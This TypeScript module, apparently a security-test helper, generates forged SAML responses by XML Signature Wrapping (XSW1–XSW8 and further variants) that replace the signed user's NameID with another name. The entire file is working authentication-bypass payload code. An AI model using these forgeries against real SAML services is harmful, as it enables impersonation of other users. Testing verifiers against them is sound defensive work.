import { DOMParser, XMLSerializer } from '@xmldom/xmldom';

const ns = {
  protocol: 'urn:oasis:names:tc:SAML:2.0:protocol',
  assertion: 'urn:oasis:names:tc:SAML:2.0:assertion',
  signature: 'http://www.w3.org/2000/09/xmldsig#',
};

/** A response in parts that can be put together anew. */
interface Parts {
  readonly document: any;
  readonly response: any;
  readonly assertion: any;
  /** The signature of either. */
  readonly signature: any;
}

function partsOf(xml: string): Parts {
  const document = new DOMParser().parseFromString(xml, 'text/xml') as any;
  const response = document.documentElement;
  const assertion = document.getElementsByTagNameNS(ns.assertion, 'Assertion')[0];
  const signature = document.getElementsByTagNameNS(ns.signature, 'Signature')[0];
  return { document, response, assertion, signature };
}

/** A copy without signatures, by another id, about somebody else. */
function evilCopy(element: any, nameId: string, id = '_evil'): any {
  const copy = element.cloneNode(true);
  for (const signature of Array.from(copy.getElementsByTagNameNS(ns.signature, 'Signature')) as any[]) {
    signature.parentNode.removeChild(signature);
  }
  copy.setAttribute('ID', id);
  for (const inner of Array.from(copy.getElementsByTagNameNS(ns.assertion, 'Assertion')) as any[]) {
    inner.setAttribute('ID', `${id}Assertion`);
  }
  for (const name of Array.from(copy.getElementsByTagNameNS(ns.assertion, 'NameID')) as any[]) {
    name.textContent = nameId;
  }
  return copy;
}

const put = (parent: any, child: any, before: any = null): any => parent.insertBefore(child, before);
const issuerOf = (element: any): any =>
  Array.from(element.childNodes).find((node: any) => node.localName === 'Issuer');
const afterIssuer = (element: any): any => issuerOf(element).nextSibling;
const without = (element: any, child: any): any => {
  element.removeChild(child);
  return element;
};

type Wrapping = (parts: Parts, nameId: string) => void;

/** The eight classes of Somorovsky et al., "On Breaking SAML" (2012); the first two take a signed response. */
const ofResponses: Readonly<Record<string, Wrapping>> = {
  'XSW1: the signed response lies in the signature of another': (
    { document, response, signature },
    nameId,
  ) => {
    const evil = evilCopy(response, nameId);
    document.removeChild(response);
    document.appendChild(evil);
    const original = without(response, signature);
    put(evil, signature, afterIssuer(evil)).appendChild(original);
  },
  'XSW2: the signed response lies before a detached signature': (
    { document, response, signature },
    nameId,
  ) => {
    const evil = evilCopy(response, nameId);
    document.removeChild(response);
    document.appendChild(evil);
    const original = without(response, signature);
    put(evil, signature, afterIssuer(evil));
    put(evil, original, signature);
  },
};

const ofAssertions: Readonly<Record<string, Wrapping>> = {
  'XSW3: another assertion before the signed one': ({ response, assertion }, nameId) => {
    put(response, evilCopy(assertion, nameId), assertion);
  },
  'XSW4: the signed assertion lies in another': ({ response, assertion }, nameId) => {
    const evil = put(response, evilCopy(assertion, nameId), assertion);
    response.removeChild(assertion);
    evil.appendChild(assertion);
  },
  'XSW5: another assertion bears the signature, the signed one comes last': (parts, nameId) => {
    const { response, assertion, signature } = parts;
    const evil = put(response, evilCopy(assertion, nameId), assertion);
    without(assertion, signature);
    put(evil, signature, afterIssuer(evil));
  },
  'XSW6: the signed assertion lies in the signature of another': (parts, nameId) => {
    const { response, assertion, signature } = parts;
    const evil = put(response, evilCopy(assertion, nameId), assertion);
    response.removeChild(assertion);
    assertion.removeChild(signature);
    put(evil, signature, afterIssuer(evil)).appendChild(assertion);
  },
  'XSW7: another assertion in extensions': ({ document, response, assertion }, nameId) => {
    const extensions = document.createElementNS(ns.protocol, 'samlp:Extensions');
    extensions.appendChild(evilCopy(assertion, nameId));
    put(response, extensions, afterIssuer(response));
  },
  'XSW8: the signed assertion lies in an object of the signature of another': (parts, nameId) => {
    const { document, response, assertion, signature } = parts;
    const evil = put(response, evilCopy(assertion, nameId), assertion);
    response.removeChild(assertion);
    assertion.removeChild(signature);
    const object = document.createElementNS(ns.signature, 'ds:Object');
    object.appendChild(assertion);
    put(evil, signature, afterIssuer(evil)).appendChild(object);
  },
  'the other assertion has the id of the signed one': ({ response, assertion }, nameId) => {
    put(response, evilCopy(assertion, nameId, assertion.getAttribute('ID')), assertion);
  },
  'the other assertion has the id of the signed one as Id': ({ response, assertion }, nameId) => {
    const evil = put(response, evilCopy(assertion, nameId), assertion);
    evil.setAttribute('Id', assertion.getAttribute('ID'));
  },
  'the signed assertion stands in the response’s status': ({ document, response, assertion }, nameId) => {
    put(response, evilCopy(assertion, nameId), assertion);
    response.removeChild(assertion);
    const detail = document.createElementNS(ns.protocol, 'samlp:StatusDetail');
    detail.appendChild(assertion);
    document.getElementsByTagNameNS(ns.protocol, 'Status')[0].appendChild(detail);
  },
  'the other assertion is of no name space': ({ document, response, assertion }, nameId) => {
    const evil = document.createElementNS('urn:evil', 'Assertion');
    for (const child of Array.from(evilCopy(assertion, nameId).childNodes)) evil.appendChild(child);
    put(response, evil, assertion);
  },
  'the name in the signed assertion is another': ({ assertion }, nameId) => {
    assertion.getElementsByTagNameNS(ns.assertion, 'NameID')[0].textContent = nameId;
  },
  'a second name in the signed assertion': ({ document, assertion }, nameId) => {
    const name = assertion.getElementsByTagNameNS(ns.assertion, 'NameID')[0];
    const second = document.createElementNS(ns.assertion, 'saml:NameID');
    second.textContent = nameId;
    put(name.parentNode, second, name);
  },
  'the name inside of the signature': ({ document, assertion, signature }, nameId) => {
    const subject = assertion.getElementsByTagNameNS(ns.assertion, 'Subject')[0].cloneNode(true);
    subject.getElementsByTagNameNS(ns.assertion, 'NameID')[0].textContent = nameId;
    const object = document.createElementNS(ns.signature, 'ds:Object');
    object.appendChild(subject);
    signature.appendChild(object);
  },
};

function applied(wrappings: Readonly<Record<string, Wrapping>>, xml: string, nameId: string) {
  return Object.entries(wrappings).map(([name, wrap]): [string, string] => {
    const parts = partsOf(xml);
    wrap(parts, nameId);
    return [name, new XMLSerializer().serializeToString(parts.document)];
  });
}

/** Every way to make a good response, whose assertion is signed, tell of somebody else. */
export const wrappedAssertions = (xml: string, nameId: string) => applied(ofAssertions, xml, nameId);

/** The same for one that is signed as a whole. */
export const wrappedResponses = (xml: string, nameId: string) => applied(ofResponses, xml, nameId);
